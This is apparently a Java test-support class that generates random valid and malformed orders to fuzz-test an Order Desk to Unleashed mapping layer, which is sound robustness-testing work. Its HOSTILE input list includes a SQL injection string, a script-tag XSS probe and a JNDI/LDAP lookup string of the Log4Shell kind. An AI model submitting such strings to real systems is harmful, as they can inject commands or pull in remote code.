package io.github.ordersync.sync.mapping;

import io.github.ordersync.client.json.JsonValue;
import io.github.ordersync.orderdesk.model.Address;
import io.github.ordersync.orderdesk.model.Discount;
import io.github.ordersync.orderdesk.model.Order;
import io.github.ordersync.orderdesk.model.OrderItem;
import io.github.ordersync.orderdesk.model.OrderNote;
import io.github.ordersync.sync.settings.ChargePolicy;
import io.github.ordersync.sync.settings.CustomField;
import io.github.ordersync.sync.settings.CustomerPolicy;
import io.github.ordersync.sync.settings.DiscountPolicy;
import io.github.ordersync.sync.settings.IntegrationSettings;
import io.github.ordersync.sync.settings.LineTaxPolicy;
import io.github.ordersync.sync.settings.OrderFieldPrecedence;
import io.github.ordersync.sync.settings.ProductSettings;
import io.github.ordersync.sync.settings.TrackingSync;
import io.github.ordersync.unleashed.model.CustomerReference;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/** Orders out of a seed: honest ones, whose total is right, and odd ones with anything in them. */
final class OrderGenerator {

    private static final List<String> HOSTILE = List.of(
            "",
            " ",
            "\t\n",
            "null",
            "0",
            "-1",
            "1e999999999",
            "NaN",
            "\u0000\u0007",
            "'; DROP TABLE orders; --",
            "<script>alert(1)</script>",
            "%s%n${jndi:ldap://example.invalid/a}",
            "🙂🙃",
            "\uD83D",
            "\uDE00x",
            "İıŞş",
            "x".repeat(3_000),
            "🙂".repeat(600),
            "a=b=c,,",
            "0.15",
            "15%",
            "150%",
            "2026-02-30",
            "03/04/2026",
            "2026-05-06",
            "Deleted",
            "Placed",
            "On Hold",
            "Charge",
            "GST",
            "USD",
            "00000000-0000-0000-0000-000000000000",
            "0f8fad5b-d9cb-469f-a165-70867728950e");
    private static final List<String> HOSTILE_JSON = List.of(
            "null",
            "true",
            "0",
            "1.50",
            "15",
            "-3",
            "1e999999999",
            "1e-999999999",
            "[]",
            "{}",
            "[1]",
            "{\"a\":1}",
            "\"\"",
            "123456789012345678901234567890");
    private static final List<String> CODES =
            List.of("A", "B", "C-1", "kit", "KIT", "pair", "skip", "away", "unknown", "ü/ß", " spaced ");
    private static final List<String> NUMBERS = List.of(
            "0",
            "0.00",
            "-0.01",
            "-5",
            "0.005",
            "0.125",
            "0.33333",
            "19.99",
            "1e999999999",
            "1e-999999999",
            "0e99999999",
            "-1e400",
            "999999999999",
            "1000000000000",
            "1e3");

    private final Random random;

    OrderGenerator(long seed) {
        this.random = new Random(seed);
    }

    static ProductSettings productSettings() {
        return ProductSettings.parse("kit=K1,K2,K2\npair=P,P\nren=NEW", "skip", "Gift Message", "", "Pick");
    }

    /** An order whose total is what Order Desk computes, with policies under which Unleashed's must be the same. */
    IntegrationSettings honestSettings() {
        return IntegrationSettings.builder()
                .customerCode("WEB")
                .productSettings(productSettings())
                .lineTax(LineTaxPolicy.FROM_ORDER)
                .orderDiscount(one(List.of(DiscountPolicy.SPREAD, DiscountPolicy.CHARGE_LINE)))
                .shipping(one(List.of(ChargePolicy.CHARGE_LINE, ChargePolicy.product("FREIGHT"))))
                .chargesTaxed(random.nextBoolean())
                .build();
    }

    /** Policies of a shop whose prices have tax inside: its order says nothing about tax. */
    IntegrationSettings inclusiveSettings() {
        return honestSettings().toBuilder()
                .lineTax(LineTaxPolicy.AUTO)
                .taxRate(new BigDecimal(random.nextInt(3_000)).movePointLeft(4))
                .pricesIncludeTax(true)
                .build();
    }

    Order honestOrder() {
        Order.Builder order = Order.builder().id("7").sourceId("S-7");
        BigDecimal products = BigDecimal.ZERO;
        int items = random.nextInt(400) == 0 ? 1_000 : 1 + random.nextInt(8);
        for (int i = 0; i < items; i++) {
            BigDecimal quantity = honestQuantity();
            BigDecimal price = honestPrice();
            products = products.add(quantity.multiply(price));
            order.addOrderItems(OrderItem.builder()
                    .code(one(List.of("A", "B", "kit", "pair", "ren")))
                    .name("n")
                    .quantity(quantity)
                    .price(price)
                    .build());
        }
        BigDecimal product = products.setScale(2, RoundingMode.HALF_UP);
        // Each line is rounded by itself, so a total of next to nothing may not be worth the discount.
        BigDecimal worth = product.subtract(BigDecimal.valueOf(items)).max(BigDecimal.ZERO);
        BigDecimal shipping = cents(1_500);
        BigDecimal handling = cents(300);
        BigDecimal discount = share(worth, random.nextInt(3) * 0.4);
        BigDecimal tax = share(worth.subtract(discount), random.nextInt(3) * 0.1);
        return order.productTotal(product)
                .shippingTotal(shipping)
                .handlingTotal(handling)
                .discountTotal(discount)
                .taxTotal(tax)
                .orderTotal(product.add(shipping).add(handling).add(tax).subtract(discount))
                .build();
    }

    private BigDecimal honestQuantity() {
        return switch (random.nextInt(10)) {
            case 0 -> new BigDecimal(random.nextInt(100_000) + 1).movePointLeft(random.nextInt(4) + 1);
            case 1 -> new BigDecimal(random.nextInt(20_000) + 1);
            default -> new BigDecimal(random.nextInt(12) + 1);
        };
    }

    private BigDecimal honestPrice() {
        return switch (random.nextInt(10)) {
            case 0 -> new BigDecimal(random.nextInt(10_000)).movePointLeft(5);
            case 1 -> new BigDecimal(random.nextInt(100_000)).movePointLeft(3);
            case 2 -> BigDecimal.ZERO;
            case 3 -> new BigDecimal("10").divide(new BigDecimal("3"), 8, RoundingMode.HALF_UP);
            default -> new BigDecimal(random.nextInt(20_000)).movePointLeft(2);
        };
    }

    private BigDecimal cents(int below) {
        return random.nextBoolean() ? BigDecimal.ZERO : new BigDecimal(random.nextInt(below)).movePointLeft(2);
    }

    private BigDecimal share(BigDecimal of, double atMost) {
        return of.multiply(BigDecimal.valueOf(random.nextDouble() * atMost)).setScale(2, RoundingMode.DOWN);
    }

    IntegrationSettings oddSettings() {
        IntegrationSettings.Builder settings = IntegrationSettings.builder()
                .lineTax(one(List.of(LineTaxPolicy.values())))
                .customers(one(List.of(CustomerPolicy.values())))
                .orderDiscount(one(List.of(DiscountPolicy.values())))
                .syncTrackingNumbers(one(List.of(TrackingSync.values())))
                .orderFieldPrecedence(one(List.of(OrderFieldPrecedence.values())))
                .shipping(one(List.of(ChargePolicy.CHARGE_LINE, ChargePolicy.OMIT, ChargePolicy.product("FREIGHT"))))
                .handling(one(List.of(ChargePolicy.CHARGE_LINE, ChargePolicy.OMIT)))
                .chargesTaxed(random.nextBoolean())
                .pricesIncludeTax(random.nextInt(3) == 0)
                .productSettings(
                        random.nextInt(4) == 0 ? ProductSettings.parse("", "", "", "main", "") : productSettings());
        maybe(2, () -> settings.customerCode("WEB"));
        maybe(2, () -> settings.taxCode("GST"));
        maybe(3, () -> settings.taxRate(new BigDecimal("0.2")));
        maybe(4, () -> settings.orderNumberPrefix("W-"));
        maybe(8, () -> settings.lineType("Charge"));
        maybe(8, () -> settings.discountRate(new BigDecimal("0.075")));
        maybe(8, () -> settings.maxTotalDifference(new BigDecimal("1.00")));
        maybe(4, () -> settings.putFieldAliases("PO notes", "DeliveryInstruction"));
        return settings.build();
    }

    MappingContext oddContext() {
        MappingContext.Builder context = MappingContext.builder().storeId(one(List.of("11", "", "🙂")));
        maybe(2, () -> context.defaultWarehouseCode("MAIN"));
        maybe(3, () -> context.addKnownWarehouses("MAIN", "SECOND"));
        maybe(
                2,
                () -> context.putTaxRates("GST", new BigDecimal("0.15"))
                        .putTaxRates("odd", new BigDecimal("1e-999999999")));
        maybe(2, () -> context.dateFormat(one(List.of("m/d/Y", "d/m/Y H:i", "Y-d-m", "l jS F Y", "Q", ""))));
        maybe(2, () -> context.putItemLocations("A", "main").putItemLocations("B", "away"));
        maybe(
                2,
                () -> context.matchedCustomer(
                        CustomerReference.builder().customerCode("FOUND").build()));
        return context.build();
    }

    Order oddOrder() {
        Order.Builder order = Order.builder();
        maybe(8, () -> order.id(text()), () -> order.id("26211"));
        maybe(2, () -> order.sourceId(text()));
        maybe(2, () -> order.email(text()));
        maybe(2, () -> order.shippingMethod(text()));
        maybe(2, () -> order.dateAdded(Instant.ofEpochSecond(random.nextLong() % 10_000_000_000L)));
        maybe(2, () -> order.shippingTotal(number()));
        maybe(2, () -> order.handlingTotal(number()));
        maybe(2, () -> order.taxTotal(number()));
        maybe(2, () -> order.discountTotal(number()));
        maybe(2, () -> order.orderTotal(number()));
        maybe(2, () -> order.productTotal(number()));
        maybe(2, () -> order.shipping(address()));
        maybe(2, () -> order.customer(address()));
        maybe(
                4,
                () -> order.addDiscountList(
                        Discount.builder().name(text()).amount(number()).build()));
        maybe(
                4,
                () -> order.addOrderNotes(
                        OrderNote.builder().content(text()).build(),
                        OrderNote.builder().build()));
        for (CustomField field : CustomField.values()) {
            maybe(12, () -> order.putCheckoutData(fieldName(field), value()));
            maybe(12, () -> order.putOrderMetadata(fieldName(field), value()));
        }
        maybe(4, () -> order.putCheckoutData("gift message", JsonValue.of(text())));
        maybe(4, () -> order.putCheckoutData(text(), JsonValue.of(text())));
        int items = random.nextInt(200) == 0 ? 1_000 : random.nextInt(6);
        for (int i = 0; i < items; i++) {
            order.addOrderItems(oddItem());
        }
        return order.build();
    }

    private OrderItem oddItem() {
        OrderItem.Builder item = OrderItem.builder();
        maybe(20, () -> item.code(text()), () -> item.code(one(CODES)));
        maybe(2, () -> item.name(text()));
        maybe(6, () -> item.price(number()), () -> item.price(honestPrice()));
        maybe(10, () -> item.quantity(number()), () -> item.quantity(honestQuantity()));
        for (CustomField field : List.of(CustomField.LINE_TAX, CustomField.LINE_TYPE, CustomField.DISCOUNT_RATE)) {
            maybe(15, () -> item.putMetadata(fieldName(field), value()));
            maybe(15, () -> item.putVariationList(fieldName(field), value()));
        }
        maybe(10, () -> item.putMetadata("LineTax", JsonValue.of(cents(200).toPlainString())));
        maybe(
                10,
                () -> item.putMetadata(
                        "DiscountRate", JsonValue.of(new BigDecimal(random.nextInt(101)).movePointLeft(2))));
        return item.build();
    }

    private Address address() {
        Address.Builder address = Address.builder();
        maybe(2, () -> address.firstName(text()));
        maybe(2, () -> address.company(text()));
        maybe(2, () -> address.address1(text()));
        maybe(2, () -> address.address3(text()));
        maybe(2, () -> address.postalCode(text()));
        maybe(2, () -> address.country(text()));
        return address.build();
    }

    private String fieldName(CustomField field) {
        return random.nextInt(3) == 0
                ? field.fieldName().replace("_", " ").toLowerCase(Locale.ROOT)
                : field.fieldName();
    }

    private JsonValue value() {
        return random.nextInt(3) == 0 ? JsonValue.parse(one(HOSTILE_JSON)) : JsonValue.of(text());
    }

    private String text() {
        return random.nextInt(3) == 0 ? "plain " + random.nextInt(100) : one(HOSTILE);
    }

    private BigDecimal number() {
        return random.nextInt(3) == 0
                ? new BigDecimal(one(NUMBERS))
                : new BigDecimal(random.nextInt(5_000)).movePointLeft(2);
    }

    private <T> T one(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }

    private void maybe(int oneIn, Runnable change) {
        maybe(oneIn, change, () -> {});
    }

    private void maybe(int oneIn, Runnable change, Runnable otherwise) {
        (random.nextInt(oneIn) == 0 ? change : otherwise).run();
    }
}
